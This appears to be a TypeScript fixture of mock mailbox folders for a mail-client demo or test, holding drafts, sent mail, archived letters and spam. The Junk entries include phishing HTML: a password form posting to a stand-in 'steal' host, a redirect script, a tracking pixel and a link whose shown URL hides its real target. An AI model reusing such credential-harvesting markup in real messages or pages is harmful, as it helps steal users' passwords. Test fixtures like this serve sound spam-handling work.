import { docx, mudFlats } from '../files.ts';
import { type Letter, SEEN, UNREAD } from '../letter.ts';
import { agnes, camille, ferdy, ines, maja, olga, robin, stellan } from '../people.ts';

/** The other folders: what was begun, kept, or sorted out by the server. */
export const shelves: readonly Letter[] = [
  {
    id: 'draft-olga',
    when: [1, '21:30'],
    folder: 'Drafts',
    from: robin,
    to: olga,
    subject: 'Re: Письма нашлись!',
    answers: 'olga-archive',
    flags: ['\\Seen', '\\Draft'],
    text: `Дорогая Ольга,

я подождал, чтобы`,
  },
  {
    id: 'draft-list',
    when: { minutesAgo: 60 },
    folder: 'Drafts',
    from: robin,
    subject: 'packing',
    flags: ['\\Seen', '\\Draft'],
    text: `kale
head torch (batteries!!)
candles for T. – do NOT send this to T.
the book for Noa's niece, the one with the kite`,
  },
  {
    id: 'sent-camille',
    when: [9, '20:10'],
    folder: 'Sent',
    from: robin,
    to: camille,
    subject: 'Re: La recette que tu m’as demandée',
    answers: 'camille-recette',
    text: `Chère Camille,

merci ! J’ai tout suivi. Le voisin a sonné au bout de vingt minutes, mais c’était pour
emprunter du sel. Dois-je le laisser sonner encore une fois ?

Robin`,
  },
  {
    id: 'sent-ferdy',
    when: [1, '15:02'],
    folder: 'Sent',
    from: robin,
    to: ferdy,
    subject: 'Re: Wader counts, cleaned up',
    answers: 'ferdy-figures',
    text: `Ferdy,

I have looked: everything is right except week 42 at the old harbour, where the curlew was
counted as curlew, curlew and "big brown one". So 17, not 19.

The document with the method is attached, in case they ask.

R.`,
    attachments: [
      {
        filename: 'How we count.docx',
        content: docx([
          'How we count',
          'Two people count the same flock and do not speak.',
          'If the numbers differ by less than a tenth, the mean is written down.',
          'Otherwise both have tea and count again.',
        ]),
        contentType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
      },
    ],
  },
  {
    id: 'archive-lease',
    when: [900, '09:00'],
    folder: 'Archive',
    from: 'Henrike Vogt <h.vogt@vogt-hausverwaltung.example.com>',
    to: robin,
    subject: 'Ihr Mietvertrag',
    text: `Guten Tag,

der Vertrag ist unterschrieben, der Schlüssel liegt beim Bäcker. Willkommen im Haus.
Das Kanu im Erdgeschoss gehört niemandem. Wir haben alle gefragt.

Freundliche Grüße
Henrike Vogt`,
  },
  {
    id: 'archive-job',
    when: [780, '10:30'],
    folder: 'Archive',
    from: ferdy,
    to: robin,
    subject: 'Welcome to the station',
    text: `Dear Robin,

it is settled: you start on the first. There is a desk by the window. There is also the
window, which does not close; the desk has got used to it.

Bring boots.

Ferdy Okafor
Tidal Research Station`,
  },
  {
    id: 'archive-essay',
    when: [300, '20:00'],
    folder: 'Archive',
    from: agnes,
    to: robin,
    subject: 'The history of the cabin, as promised (it got long)',
    text: [
      'Dear Robin,',
      'you asked how old the cabin is, and I said that I would write it down one winter. It is winter.',
      'It was built by my grandfather out of the deckhouse of a ship that had run aground with a load of oranges. For a year the whole village smelled of marmalade. The deckhouse had been made for six sailors and was therefore, my grandmother said, exactly right for one marriage.',
      'The stove is older than the cabin. It stood in the schoolhouse, where it had smoked for thirty years, and it has never smoked since, which tells you something about schools. The poker is from a church. We do not know which, and we have decided not to ask.',
      'In the second winter the sea came in. It came in by the door, politely, stayed for one night at the height of a chair, and left by the same way, taking with it a drawer of spoons and leaving a flatfish. My grandfather nailed a plank across the threshold and wrote the date on it. There are seven dates on it now. You have stumbled over all of them.',
      'My mother learned to read there, from the labels of the orange crates, so that her first word was "VALENCIA". She taught me the constellations through the hole in the roof, and when the roof was repaired she made them leave one board loose, above the bench. If you lie on the bench at eleven o’clock in the last week of the month, you can see exactly one star. Nobody agrees which.',
      'The bench is from the ship. It is not good for the back. I have heard the contrary, from a guest of yours, and can only say that sailors had no choice.',
      'Then came the years when nobody went. There was a road by then, and where there is a road people go further. The accordion people took it for a summer and stayed for three. Of the carpet I shall say nothing, except that it had come from Persia, by way of an aunt, and that it deserved a better end.',
      'When I came back to it there was a toad under the second flowerpot and a wren in the kettle. I waited until the wren had finished. It took until July. I have never bought another kettle, because I do not think that I could tell it what it has missed.',
      'What else? The jetty has been built four times. The anchor on the left belongs to Börje, who has no boat. The water in the barrel is good. If the door sticks, lift it and think of something else.',
      'I am eighty-one, and I have been happy there on a number of days that I once tried to count; I arrived at more than I had expected and stopped, so as not to spoil it.',
      'Come soon. Put the key back where it was.',
      'Agnes',
    ].join('\n\n'),
    isFlowed: true,
  },
  {
    id: 'archive-photo',
    when: [410, '12:00'],
    folder: 'Archive',
    from: maja,
    to: robin,
    subject: 'the seal (please keep)',
    text: 'It is the grey thing in front of the other grey thing. Please keep it for ever.',
    attachments: [{ filename: 'seal.png', content: mudFlats(400, 260), contentType: 'image/png' }],
  },
  {
    id: 'archive-choir',
    when: [365, '19:00'],
    folder: 'Archive',
    from: ines,
    to: robin,
    subject: 'After the concert',
    text: `Robin,

last night, in the quiet one, the low D was there, and the whole hall sat a little deeper.
I wanted to have said it in writing.

Inês`,
  },
  {
    id: 'junk-prince',
    when: [6, '01:11'],
    folder: 'Junk',
    from: 'Capt. P. Fortune <fortune@vault.example.test>',
    to: 'undisclosed-recipients:;',
    subject: 'URGENT!!! YOUR 14,500,000 GOLD DUBLOONS AWAIT',
    flags: UNREAD,
    headers: { 'X-Spam-Flag': 'YES', 'X-Spam-Score': '18.4' },
    html: `<center><font size="7" color="red"><blink>CONGRATULATION DEAR BELOVED!!!</blink></font>
<p>I am a captain of honest reputation and have found <b>FOURTEEN MILLIONS DUBLOONS</b> in a ship of yours.</p>
<p>To send it I only need the <a href="http://login.vault.example.test/confirm">password of your mail</a> and the name of your first parrot.</p>
<form action="http://vault.example.test/steal" method="post"><input name="password" type="password"><input type="submit" value="CLAIM NOW"></form>
<script>document.location = 'http://vault.example.test/';</script>
<img src="http://track.vault.example.test/p.gif" width="1" height="1"></center>`,
  },
  {
    id: 'junk-parcel',
    when: [4, '02:47'],
    folder: 'Junk',
    from: '"Pigeon Parcels" <custom-fee@pigeon-parcel.example.test>',
    to: robin,
    subject: 'Your parcel is hold!! pay 1,99 now',
    flags: SEEN,
    headers: { 'X-Spam-Flag': 'YES', 'X-Spam-Score': '11.0' },
    html: `<table bgcolor="#ffcc00" width="100%"><tr><td><h2>Dear costumer</h2><p>You parcel could not be deliver because of unpay custom. <a href="http://pigeon-parcel.example.test/pay?id=1"><b>https://pigeon-parcels.example.net/t/00884471</b></a></p></td></tr></table>`,
  },
  {
    id: 'junk-seo',
    when: [2, '03:03'],
    folder: 'Junk',
    from: 'Rank Rocket <growth@rank-rocket.example.test>',
    to: robin,
    subject: 'Re: Re: our conversation about mud',
    flags: UNREAD,
    headers: { 'X-Spam-Flag': 'YES', 'X-Spam-Score': '7.2' },
    text: `Hi there,

I was just looking at your website about "mud" and love what you do in the mud space! We
can bring your mud to the first page. Do you have 15 minutes on Thursday?

I will follow up tomorrow, the day after, and until one of us retires.`,
  },
  {
    id: 'trash-survey',
    when: [5, '13:00'],
    folder: 'Trash',
    from: 'Harbour Savings Bank <survey@harbour-savings.example.com>',
    to: robin,
    subject: 'How satisfied were you with our previous survey?',
    text: `Dear Robin Lind,

two weeks ago you told us that you do not like surveys. Please take a minute to tell us
how you liked telling us that.`,
  },
  {
    id: 'trash-stellan',
    when: [9, '06:01'],
    folder: 'Trash',
    from: stellan,
    to: robin,
    subject: '(empty)',
    text: 'jjjjjjjjjjjjjjjjjjjjjjjjjj',
  },
];
